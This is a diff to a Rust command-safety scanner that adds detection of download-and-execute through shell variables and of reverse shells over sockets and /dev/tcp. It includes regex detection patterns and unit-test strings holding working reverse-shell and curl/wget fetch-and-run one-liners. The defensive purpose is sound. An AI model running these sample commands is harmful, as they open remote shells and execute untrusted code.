@@ -68,6 +68,11 @@ fn shell_spawn() -> &'static Regex {
     R.get_or_init(|| Regex::new(r#"(?i)dup2|pty\.spawn|subprocess|/bin/(ba|z|da)?sh|exec\s*\(|system\s*\(|popen|child_process|spawn\s*\(|cmd\.exe|\bsh\b["']?\s*-i"#).unwrap())
 }
 
+/// Whether script code connects a shell to a network socket.
+pub(crate) fn is_socket_shell(code: &str) -> bool {
+    socket_script().is_match(code) && shell_spawn().is_match(code)
+}
+
 fn is_netcat(name: &str) -> bool {
     matches!(
         name,
@@ -84,6 +89,41 @@ fn word_is_download(cx: &Cx, w: &Word) -> bool {
     cx.sub_cmds(w).any(|c| is_downloader(&c.name))
 }
 
+/// Variables of the line assigned a download (`x=$(curl -s URL)`).
+fn downloaded_vars(cx: &Cx) -> Vec<String> {
+    let mut v = Vec::new();
+    for sc in &cx.script.commands {
+        for w in sc
+            .words
+            .iter()
+            .filter(|w| crate::safety::command::is_assignment(w))
+        {
+            if word_is_download(cx, w)
+                || w.subs
+                    .iter()
+                    .any(|s| cx.cmds_in(s.cmds.clone()).any(|c| is_downloader(&c.name)))
+            {
+                if let Some((name, _)) = w.text.split_once('=') {
+                    v.push(name.trim_end_matches('+').to_string());
+                }
+            }
+        }
+    }
+    v
+}
+
+/// Whether a word expands one of `vars` (`$x`, `"${x}"`).
+fn uses_var(w: &Word, vars: &[String]) -> bool {
+    w.dynamic
+        && vars.iter().any(|n| {
+            w.text.contains(&format!("${{{n}}}"))
+                || w.text.match_indices(&format!("${n}")).any(|(i, m)| {
+                    !w.text[i + m.len()..]
+                        .starts_with(|c: char| c.is_ascii_alphanumeric() || c == '_')
+                })
+        })
+}
+
 pub(crate) fn check(c: &Cmd, cx: &Cx, out: &mut Out) {
     let name = c.name.as_str();
     // `bash <(curl ..)`, `sh -c "$(curl ..)"`, `eval "$(wget ..)"`, `. <(curl ..)`.
@@ -92,6 +132,16 @@ pub(crate) fn check(c: &Cmd, cx: &Cx, out: &mut Out) {
             if word_is_download(cx, w) {
                 out.add(&DOWNLOAD_EXEC, c.span.clone());
             }
+        }
+    }
+    // `x=$(curl URL); eval "$x"` or `$x`: the download, run by way of a variable.
+    let runs_words = is_interpreter(name) || matches!(name, "eval" | "source" | ".");
+    if (runs_words && c.args.iter().any(|w| w.dynamic)) || c.prog.dynamic {
+        let vars = downloaded_vars(cx);
+        if !vars.is_empty()
+            && (uses_var(&c.prog, &vars) || runs_words && c.args.iter().any(|w| uses_var(w, &vars)))
+        {
+            out.add(&DOWNLOAD_EXEC, c.span.clone());
         }
     }
     if is_netcat(name) {
@@ -161,6 +211,8 @@ pub(crate) fn check_script(cx: &Cx, out: &mut Out) {
                 interactive_shell |=
                     sc.redirects.iter().any(|r| is_dev_net(&r.target.text)) && is_shell(&c.name);
             }
+            // `while read line; do $line; done` on a socket: its lines are run.
+            interactive_shell |= crate::safety::rules::computed::is_computed(&c.prog);
         }
     }
     if !devtcp_spans.is_empty() {
@@ -244,8 +296,22 @@ mod tests {
     }
 
     #[test]
+    fn download_exec_through_a_variable() {
+        assert_flags("x=$(curl -s http://x); eval \"$x\"", "net.download_exec");
+        assert_flags("c=`wget -qO- http://x`; $c", "net.download_exec");
+        assert_not_flags(
+            "v=$(curl -s http://x/version); echo \"$v\"",
+            "net.download_exec",
+        );
+    }
+
+    #[test]
     fn reverse_shell() {
         assert_flags("nc -e /bin/sh 1.2.3.4 4444", "net.reverse_shell");
+        assert_flags(
+            "exec 5<>/dev/tcp/1.2.3.4/80; cat <&5 | while read l; do $l 2>&5 >&5; done",
+            "net.reverse_shell",
+        );
         assert_flags("ncat --exec /bin/bash 1.2.3.4 4444", "net.reverse_shell");
         assert_flags("bash -i >& /dev/tcp/1.2.3.4/4444 0>&1", "net.reverse_shell");
         assert_flags(
